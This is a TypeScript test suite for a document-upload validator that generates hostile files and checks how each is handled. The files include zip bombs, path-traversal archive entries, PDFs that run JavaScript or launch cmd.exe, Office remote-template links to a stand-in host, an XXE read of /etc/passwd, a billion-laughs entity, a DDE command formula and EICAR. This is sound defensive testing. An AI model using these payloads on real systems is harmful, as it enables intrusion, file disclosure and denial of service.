import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { dealDocumentRule } from '@drawbridge/domain/documents/judge-file.ts';
import { recognizeContent } from '../../src/platform/files/recognize-content.ts';
import { addDeal } from '../support/deals.ts';
import { filesOnDisk, listDocuments, upload } from '../support/documents.ts';
import * as zoo from '../support/file-zoo.ts';
import { processorMs } from '../support/processor-time.ts';
import { personSignedIn, type SignedInPerson } from '../support/people.ts';
import { startScanner } from '../support/scanner.ts';
import { startWorld, type World } from '../support/world.ts';

/**
 * The expected result for each file: `kept`, or refused with a status and message. A kept file was inspected and is never
 * run. It is served as a download, so that a polyglot is only ever its detected type.
 */
type Verdict = 'kept' | readonly [status: number, message: string];

const empty: Verdict = [400, 'Empty file.'];
const large: Verdict = [413, 'File size too large.'];
const kind: Verdict = [415, 'We don’t accept this type of file.'];
const mismatch: Verdict = [415, 'The file’s content doesn’t match its name.'];
const unsafe: Verdict = [415, 'This file isn’t safe to open.'];
const scripted: Verdict = [415, 'This PDF runs a script or program when opened.'];
const remote: Verdict = [415, 'This file loads content from another computer.'];
const withProgram: Verdict = [415, 'This archive contains a program, script or shortcut.'];
const virus: Verdict = [415, 'This file contains a virus.'];
const locked: Verdict = [422, 'This file is password protected.'];
const damaged: Verdict = [422, 'This file is damaged.'];

const most = dealDocumentRule.mostBytes;
const padded = (start: Buffer, size: number) => Buffer.concat([start, Buffer.alloc(size)], size);
const repeated = (length: number) => Buffer.alloc(length, 'A');
const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
const xxe = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
const laughs = `<!DOCTYPE x [${Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')}]><x>&l9;</x>`;

/** An archive whose entries all point to the same bytes. */
function overlapping(): Buffer {
  const one = zoo.zip({ kernel: repeated(10_000) });
  const listAt = one.indexOf('PK\u0001\u0002');
  const end = one.subarray(one.indexOf('PK\u0005\u0006'));
  const entry = one.subarray(listAt, one.indexOf('PK\u0005\u0006'));
  const fixed = Buffer.from(end);
  fixed.writeUInt16LE(200, 8);
  fixed.writeUInt16LE(200, 10);
  return join(one.subarray(0, listAt), ...Array.from({ length: 200 }, () => entry), fixed);
}

/** Nested archives. */
function nested(depth: number): Buffer {
  let inner = zoo.zip({ 'a.txt': 'a' });
  for (let level = 0; level < depth; level += 1) inner = zoo.zip({ [`${level}.zip`]: inner });
  return inner;
}

const animals: readonly (readonly [name: string, bytes: () => Buffer, verdict: Verdict])[] = [
  // Sizes
  ['nothing.pdf', () => Buffer.alloc(0), empty],
  ['nothing.exe', () => Buffer.alloc(0), empty],
  ['one byte.txt', () => Buffer.from('1'), 'kept'],
  ['under the limit.png', () => padded(zoo.png(), most - 1), 'kept'],
  ['at the limit.jpg', () => padded(zoo.jpg(), most), 'kept'],
  ['over the limit.png', () => padded(zoo.png(), most + 1), large],
  // Bombs
  ['42.zip', () => zoo.zip({ 'a.zip': 'a' }, { claims: 60_000_000 }), unsafe],
  ['claims.zip', () => zoo.zip({ a: 'a', b: 'b' }, { claims: 0x7fff_ffff }), unsafe],
  ['overlapping.zip', overlapping, unsafe],
  ['bomb.xlsx', () => zoo.office('xlsx', 'x', {}, { claims: 60_000_000 }), unsafe],
  ['bomb.docx', () => zoo.office('docx', 'x', {}, { claims: 60_000_000 }), unsafe],
  ['zeroes.png', () => padded(zoo.png(), 5_000_000), 'kept'],
  ['well packed.zip', () => zoo.zip({ 'rents.csv': repeated(2_000_000) }), 'kept'],
  ['zip in zip.zip', () => zoo.zip({ 'inner.zip': zoo.zip({ a: 'a' }) }), 'kept'],
  ['lying list.zip', () => zoo.zip({ a: repeated(5_000_000) }, { claims: 1000 }), unsafe],
  ['lying throughout.zip', () => zoo.zip({ a: repeated(5_000_000) }, { grows: 4_999_000 }), unsafe],
  ['lying.docx', () => zoo.office('docx', 'x', { 'word/x.xml': repeated(900) }, { grows: 10 }), unsafe],
  ['nested bomb.zip', () => zoo.zip({ 'a.zip': zoo.zip({ b: repeated(60_000_000) }) }), unsafe],
  ['nested lie.zip', () => zoo.zip({ a: zoo.zip({ b: repeated(900) }, { grows: 10 }) }), unsafe],
  ['nested too deep.zip', () => nested(5), unsafe],
  ['nested.zip', () => nested(3), 'kept'],
  ['nested slip.zip', () => zoo.zip({ 'a.zip': zoo.zip({ '../../evil.txt': 'x' }) }), unsafe],
  // Programs
  ['program.zip', () => zoo.zip({ 'invoice.pdf.exe': 'x' }), withProgram],
  ['shortcut.zip', () => zoo.zip({ 'docs/invoice.LNK': 'x' }), withProgram],
  ['script.zip', () => zoo.zip({ 'run.ps1 . ': 'x' }), withProgram],
  ['renamed program.zip', () => zoo.zip({ 'photo.jpg': zoo.program() }), withProgram],
  ['shell.zip', () => zoo.zip({ 'readme.txt': '#!/bin/sh\nid' }), withProgram],
  ['nested program.zip', () => zoo.zip({ 'a.zip': zoo.zip({ 'a.js': 'x' }) }), withProgram],
  ['program.docx', () => zoo.office('docx', 'x', { 'word/media/a.png': zoo.program() }), withProgram],
  ['executive.zip', () => zoo.zip({ 'exe/summary of exe.pdf': 'x', 'plan.dwg': 'x' }), 'kept'],
  // Active PDFs
  ['script.pdf', () => zoo.actingPdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), scripted],
  ['script spelled.pdf', () => zoo.actingPdf('/OpenAction << /S /J#61vaScri#70t /JS (x) >>'), scripted],
  ['launch.pdf', () => zoo.actingPdf('/OpenAction << /S/Launch /F (cmd.exe) >>'), scripted],
  ['launch apart.pdf', () => zoo.actingPdf('/AA << /O << /S\n/L#61unch /Win << >> >> >>'), scripted],
  ['packed script.pdf', () => zoo.packedPdf('<< /S /JavaScript /JS (x) >>'), scripted],
  [
    'packed otherwise.pdf',
    () => join(zoo.pdf('x').subarray(0, 9), '<< /Type /ObjStm >>\nstream\nnoise\nendstream', zoo.pdf('x')),
    scripted,
  ],
  [
    'script in zip.zip',
    () => zoo.zip({ 'a.pdf': zoo.actingPdf('/OpenAction << /S /JavaScript >>') }),
    scripted,
  ],
  ['packed.pdf', () => zoo.packedPdf('<< /Type /Page >>'), 'kept'],
  ['link.pdf', () => zoo.actingPdf('/A << /S /URI /URI (https://meet.example/Launch) >>'), 'kept'],
  // Office files that load remote content
  [
    'template.docx',
    () =>
      zoo.office('docx', 'x', {
        'word/_rels/settings.xml.rels': zoo.outside('attachedTemplate', '\\\\evil.test\\a.dotm'),
      }),
    remote,
  ],
  [
    'template web.docx',
    () =>
      zoo.office('docx', 'x', {
        'word/_rels/settings.xml.rels': zoo.outside('attachedTemplate', 'https://evil.test/a.dotm'),
      }),
    remote,
  ],
  [
    'template share.docx',
    () =>
      zoo.office('docx', 'x', {
        'word/_rels/settings.xml.rels': zoo.outside('attachedTemplate', 'file://evil.test/a.dotm'),
      }),
    remote,
  ],
  [
    'picture.docx',
    () =>
      zoo.office('docx', 'x', {
        'word/_rels/document.xml.rels': zoo.outside('image', 'http://evil.test/a.png'),
      }),
    remote,
  ],
  [
    'object.xlsx',
    () =>
      zoo.office('xlsx', 'x', {
        'xl/worksheets/_rels/sheet1.xml.rels': zoo.outside('oleObject', '//evil.test/a.xls'),
      }),
    remote,
  ],
  [
    'workbook.xlsx',
    () =>
      zoo.office('xlsx', 'x', {
        'xl/externalLinks/_rels/externalLink1.xml.rels': zoo.outside(
          'externalLinkPath',
          'https:&#47;/evil.test/a.xlsx',
        ),
      }),
    remote,
  ],
  [
    'template in zip.zip',
    () =>
      zoo.zip({
        'a.docx': zoo.office('docx', 'x', {
          'word/_rels/settings.xml.rels': zoo.outside('attachedTemplate', 'https://evil.test/a.dotm'),
        }),
      }),
    remote,
  ],
  [
    'broken relations.docx',
    () => zoo.office('docx', 'x', { 'word/_rels/settings.xml.rels': '<Relationships' }),
    damaged,
  ],
  [
    'own template.docx',
    () =>
      zoo.office('docx', 'x', {
        'word/_rels/settings.xml.rels': zoo.outside(
          'attachedTemplate',
          'file:///C:\\Users\\ann\\Normal.dotm',
        ),
      }),
    'kept',
  ],
  [
    'beside it.xlsx',
    () =>
      zoo.office('xlsx', 'x', {
        'xl/externalLinks/_rels/externalLink1.xml.rels': zoo.outside('externalLinkPath', 'rents%202026.xlsx'),
      }),
    'kept',
  ],
  [
    'hyperlink.docx',
    () =>
      zoo.office('docx', 'x', {
        'word/_rels/document.xml.rels': zoo.outside('hyperlink', 'https://lender.example/terms'),
      }),
    'kept',
  ],
  // Path traversal
  ['slip.zip', () => zoo.zip({ '../../evil.sh': 'x' }), unsafe],
  ['slip deep.zip', () => zoo.zip({ 'a/../../evil.sh': 'x' }), unsafe],
  ['slip windows.zip', () => zoo.zip({ '..\\..\\evil.bat': 'x' }), unsafe],
  ['slip root.zip', () => zoo.zip({ '/etc/cron.d/evil': 'x' }), unsafe],
  ['slip drive.zip', () => zoo.zip({ 'C:\\Windows\\evil.dll': 'x' }), unsafe],
  ['slip nul.zip', () => zoo.zip({ 'evil.sh\u0000.txt': 'x' }), unsafe],
  ['link.zip', () => zoo.zip({ passwd: '/etc/passwd' }, { links: true }), unsafe],
  ['slip.docx', () => zoo.office('docx', 'x', { '../../evil.xml': 'x' }), unsafe],
  ['dots that are a name.zip', () => zoo.zip({ 'a..b/...c': 'x' }), 'kept'],
  // External entities: kept, because nothing resolves them
  ['xxe.docx', () => zoo.office('docx', 'x', { 'word/settings.xml': xxe }), 'kept'],
  ['xxe.xlsx', () => zoo.office('xlsx', 'x', { 'xl/sharedStrings.xml': xxe }), 'kept'],
  ['laughs.xlsx', () => zoo.office('xlsx', 'x', { 'xl/sharedStrings.xml': laughs }), 'kept'],
  ['xxe.xml', () => Buffer.from(xxe), kind],
  // Polyglots: kept as the type of their first bytes
  ['pdf and zip.pdf', () => join(zoo.pdf('x'), zoo.zip({ a: 'b' })), 'kept'],
  ['pdf and zip.zip', () => join(zoo.pdf('x'), zoo.zip({ a: 'b' })), mismatch],
  ['jpg and zip.jpg', () => join(zoo.jpg(), zoo.zip({ a: 'b' })), 'kept'],
  ['png and page.png', () => join(zoo.png(), '<script>alert(1)</script>'), 'kept'],
  ['png and page.html', () => join(zoo.png(), '<script>alert(1)</script>'), kind],
  ['gif and script.jpg', () => join(zoo.gif(), '/*', '*/=1;alert(1)'), mismatch],
  ['page and pdf.pdf', () => join('<html>', zoo.pdf('x')), mismatch],
  ['page as text.txt', () => Buffer.from('<html><script>alert(1)</script>'), 'kept'],
  ['formula.csv', () => Buffer.from('=cmd|"/c calc"!A1,1\r\n'), 'kept'],
  // Mismatched names
  ['deed.pdf.exe', () => zoo.pdf('x'), kind],
  ['deed.exe.pdf', zoo.program, mismatch],
  ['deed.pdf.zip', () => zoo.zip({ a: 'b' }), 'kept'],
  ['invoice\u202Efdp.exe', zoo.program, kind],
  ['invoice\u202Eexe.pdf', () => zoo.pdf('rtl'), 'kept'],
  ['deed.pdf\u0000.exe', zoo.program, [400, 'Remove the invisible character (NUL) from this text.']],
  ['.htaccess', () => Buffer.from('Options +Indexes'), kind],
  ['../../../deed.pdf', () => zoo.pdf('above'), 'kept'],
  [`${'n'.repeat(296)}.pdf`, () => zoo.pdf('long'), 'kept'],
  ['🏠🔑.pdf', () => zoo.pdf('emoji'), 'kept'],
  // Wrong first bytes
  ['program.pdf', zoo.program, mismatch],
  ['program.docx', zoo.program, mismatch],
  ['gif.png', zoo.gif, mismatch],
  ['text.xlsx', () => Buffer.from('Unit,Rent'), mismatch],
  ['magic only.pdf', () => Buffer.from('%PDF-'), damaged],
  ['magic only.zip', () => Buffer.from('PK\u0003\u0004'), damaged],
  ['magic only.doc', () => padded(Buffer.from('d0cf11e0a1b11ae1', 'hex'), 600), mismatch],
  ['half.pdf', () => zoo.pdf('half').subarray(0, 60), damaged],
  ['half.zip', () => zoo.zip({ a: 'b'.repeat(99) }).subarray(0, -10), damaged],
  // Macros
  ['macros.xlsm', () => zoo.office('xlsm', 'x', { 'xl/vbaProject.bin': 'x' }), 'kept'],
  ['macros.xlsx', () => zoo.office('xlsm', 'x'), mismatch],
  ['hidden macros.xlsx', () => zoo.office('xlsx', 'x', { 'xl/vbaProject.bin': 'x' }), unsafe],
  ['hidden macros.docx', () => zoo.office('docx', 'x', { 'word/vbaProject.bin': 'x' }), unsafe],
  ['macros.docm', () => zoo.office('docm', 'x'), kind],
  // Passwords
  ['locked.pdf', () => zoo.pdf('x', '/Encrypt 5 0 R'), locked],
  ['locked.zip', () => zoo.zip({ a: 'b' }, { encrypted: true }), locked],
  ['locked.xlsx', () => zoo.compound({ EncryptedPackage: Buffer.alloc(8) }), locked],
  // Viruses
  ['eicar.txt', zoo.eicar, virus],
  ['eicar.zip', () => zoo.zip({ 'eicar.txt': zoo.eicar() }), virus],
  ['eicar.docx', () => zoo.office('docx', 'x', { 'word/media/x.bin': zoo.eicar() }), virus],
  ['eicar.pdf', () => zoo.pdf(zoo.eicar().toString()), virus],
];

let scanner: Awaited<ReturnType<typeof startScanner>>;
let world: World;
let owner: SignedInPerson;

beforeAll(async () => {
  scanner = await startScanner();
  world = await startWorld({ environment: { CLAMD_URL: scanner.url } });
  owner = await personSignedIn(world);
});
afterAll(async () => {
  await world.close();
  await scanner.close();
});

describe('the upload zoo', () => {
  test.each(animals)('%j', async (name, make, verdict) => {
    const deal = await addDeal(world, { borrowerId: owner.accountId });
    const before = filesOnDisk(world).length;
    const answer = await upload(world, owner, { deal, name, bytes: make() });
    const kept = (await listDocuments(world, owner, deal)).length;
    const left = filesOnDisk(world).length - before;
    const [status, words, files] = verdict === 'kept' ? [200, '/lima/api/documents/', 1] : [...verdict, 0];
    expect({ status: answer.status, kept, left }).toEqual({ status, kept: files, left: files });
    expect(answer.text).toContain(words);
  });

  test('each is judged quickly and within 64 MB of memory', async () => {
    for (const [name, make] of animals) {
      const bytes = make();
      const held = () => process.memoryUsage().heapUsed + process.memoryUsage().arrayBuffers;
      const before = held();
      expect(await processorMs(() => recognizeContent(bytes)), name).toBeLessThan(1000);
      expect(held() - before, name).toBeLessThan(64 * 1024 * 1024);
    }
  });
});
